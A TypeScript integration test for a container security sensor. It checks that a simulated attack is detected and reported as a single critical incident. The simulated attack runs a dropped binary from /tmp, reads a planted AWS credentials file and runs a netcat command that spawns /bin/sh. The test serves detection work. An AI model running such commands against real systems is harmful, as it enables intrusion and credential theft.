import type { ChildProcess } from 'node:child_process';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { issueSensorKey } from '@breakwater/app/ingest';
import type { Incident } from '@breakwater/model';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { runCommand, startCommand } from '../../packages/cli/src/testing/run-command.ts';
import { openEstateStore } from '../../packages/cli/src/up/open-estate-store.ts';
import { inContainers, NO_SENSOR, SampleImage } from './sample-container.ts';

const PATIENCE = 90_000;
const CONTAINER = 'bw-incident';

/** A process with all that it wrote. */
interface Started {
  child: ChildProcess;
  wrote: string;
}

describe.skipIf(NO_SENSOR !== '')(inContainers('an attack in a real container'), () => {
  let image: SampleImage;
  let folder: string;
  const started: Started[] = [];

  beforeAll(() => {
    image = new SampleImage('breakwater-incident-test');
    folder = mkdtempSync(join(tmpdir(), 'breakwater-incident-'));
  });
  afterAll(async () => {
    for (const { child } of started) await ended(child);
    image?.remove();
    rmSync(folder, { recursive: true, force: true });
  });

  const ended = (child: ChildProcess): Promise<void> =>
    new Promise((resolve) => {
      if (child.exitCode !== null || child.signalCode !== null) return resolve();
      child.once('exit', () => resolve());
      child.kill('SIGINT');
    });

  function start(...args: string[]): Started {
    const child = startCommand(args, { folder, state: join(folder, 'state') });
    const one: Started = { child, wrote: '' };
    for (const stream of [child.stdout, child.stderr])
      stream?.setEncoding('utf8').on('data', (text: string) => {
        one.wrote += text;
      });
    started.push(one);
    return one;
  }
  const until = <T>(find: () => T | undefined | Promise<T | undefined>): Promise<T> =>
    vi.waitUntil(async () => (await find()) as T, { timeout: PATIENCE, interval: 300 });

  async function keyFile(): Promise<string> {
    const store = await openEstateStore(join(folder, 'state'));
    const { text, key } = issueSensorKey('here', new Date().toISOString());
    await store.ingest.addKey(key);
    await store.close();
    const path = join(folder, 'sensor.key');
    writeFileSync(path, `${text}\n`, { mode: 0o600 });
    return path;
  }

  it('goes from the sensor to the server, and is told there as one story', { timeout: 4 * PATIENCE }, async () => {
    const key = await keyFile();
    const server = start('up', '--roles', 'ingest', '--ingest-listen', '127.0.0.1', '--ingest-port', '0');
    const address = await until(() => /at (http:\/\/\S+)\/api\/v1\/events/.exec(server.wrote)?.[1]);
    const sent = ['--server', address, '--key-file', key, '--spool', join(folder, 'spool')];
    const sensor = start('sensor', '--container', CONTAINER, '--output', 'json', ...sent);
    const script = [
      'cp /app/busybox-program /tmp/busybox-dropped; /tmp/busybox-dropped true',
      'mkdir -p /root/.aws; echo secret > /root/.aws/credentials; cat /root/.aws/credentials',
      'nc -w 1 127.0.0.1 9 -e /bin/sh',
    ].join('\n');
    // A sensor that has begun sees the container: until then it is run again.
    await until(async () => {
      await image.run(CONTAINER, script);
      return sensor.wrote.includes('busybox-dropped') || undefined;
    });

    const told = await until(async () => {
      const { stdout } = await runCommand(['incidents', '--output', 'json'], { folder, state: join(folder, 'state') });
      const [first] = (JSON.parse(stdout) as { items: { id: string; entries: number }[] }).items;
      return first !== undefined && first.entries >= 3 ? first : undefined;
    });
    const shown = await runCommand(['incidents', 'show', told.id, '--output', 'json'], {
      folder,
      state: join(folder, 'state'),
    });
    const incident = JSON.parse(shown.stdout) as Incident;
    expect(incident).toMatchObject({ status: 'open', severity: 'critical', subjects: [`${image.name}:latest`] });
    const policies = incident.entries.map(({ policy }) => policy);
    expect(policies).toEqual(expect.arrayContaining(['dropped-binary', 'netcat-with-program']));
    const dropped = incident.processes.find(({ path }) => path.includes('busybox-dropped'));
    expect(dropped).toMatchObject({ inImage: false, container: CONTAINER });
    expect(incident.processes.find(({ id }) => id === dropped?.parent)?.path).toContain('busybox');
    expect(incident.entries.filter(({ policy }) => policy === 'dropped-binary')).toHaveLength(1);
    expect(incident.advice.join('\n')).toContain(CONTAINER);
    const story = await runCommand(['incidents', 'show', told.id], { folder, state: join(folder, 'state') });
    for (const part of ['What happened', 'Who did it', 'What to do', 'How sure', 'What was not checked'])
      expect(story.stdout).toContain(part);
  });
});
